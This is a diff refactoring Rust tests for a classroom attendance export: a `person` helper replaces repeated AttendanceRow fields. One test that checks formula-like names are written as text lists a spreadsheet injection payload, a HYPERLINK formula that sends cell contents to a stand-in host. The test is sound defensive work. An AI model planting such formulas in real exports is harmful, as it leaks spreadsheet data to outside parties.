@@ -279,6 +279,26 @@ mod tests {
     use super::*;
     use classroom_protocol::RosterEntry;
 
+    /// A row of someone who joined at `first_join_ms` and did nothing counted since.
+    fn person(identity: &str, name: &str, role: Role, first_join_ms: Millis) -> AttendanceRow {
+        AttendanceRow {
+            identity: identity.into(),
+            name: name.into(),
+            role,
+            roster_name: None,
+            first_join_ms,
+            last_leave_ms: None,
+            minutes: 10.0,
+            reconnects: 0,
+            roll_calls_answered: 0,
+            roll_calls: 0,
+            hands_raised: 0,
+            chat_messages: 0,
+            quiz_correct: 0,
+            quiz_questions: 0,
+        }
+    }
+
     #[test]
     fn utc_dates() {
         assert_eq!(utc(0), "1970-01-01T00:00:00Z");
@@ -297,20 +317,9 @@ mod tests {
     #[test]
     fn names_that_start_like_a_formula_are_written_as_text() {
         let row = |name: &str| AttendanceRow {
-            identity: format!("@{name}"),
-            name: name.into(),
-            role: Role::Student,
             roster_name: Some(name.into()),
-            first_join_ms: 0,
-            last_leave_ms: None,
             minutes: 1.0,
-            reconnects: 0,
-            roll_calls_answered: 0,
-            roll_calls: 0,
-            hands_raised: 0,
-            chat_messages: 0,
-            quiz_correct: 0,
-            quiz_questions: 0,
+            ..person(&format!("@{name}"), name, Role::Student, 0)
         };
         let hostile = [
             "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
@@ -378,20 +387,8 @@ mod tests {
             room: "r".into(),
             made_ms: 0,
             rows: vec![AttendanceRow {
-                identity: "t".into(),
-                name: "王老师".into(),
-                role: Role::Teacher,
-                roster_name: None,
-                first_join_ms: 1_700_000_000_000,
                 last_leave_ms: Some(1_700_000_600_000),
-                minutes: 10.0,
-                reconnects: 0,
-                roll_calls_answered: 0,
-                roll_calls: 0,
-                hands_raised: 0,
-                chat_messages: 0,
-                quiz_correct: 0,
-                quiz_questions: 0,
+                ..person("t", "王老师", Role::Teacher, 1_700_000_000_000)
             }],
             absent: vec![RosterEntry {
                 name: "张三".into(),
@@ -457,22 +454,7 @@ mod tests {
                     quiz_correct: 1,
                     quiz_questions: 2,
                 },
-                AttendanceRow {
-                    identity: "t".into(),
-                    name: "Ms. Rivera".into(),
-                    role: Role::Teacher,
-                    roster_name: None,
-                    first_join_ms: 1_700_000_000_000,
-                    last_leave_ms: None,
-                    minutes: 10.0,
-                    reconnects: 0,
-                    roll_calls_answered: 0,
-                    roll_calls: 0,
-                    hands_raised: 0,
-                    chat_messages: 0,
-                    quiz_correct: 0,
-                    quiz_questions: 0,
-                },
+                person("t", "Ms. Rivera", Role::Teacher, 1_700_000_000_000),
             ],
             absent: vec![RosterEntry {
                 name: "Ben Okafor".into(),
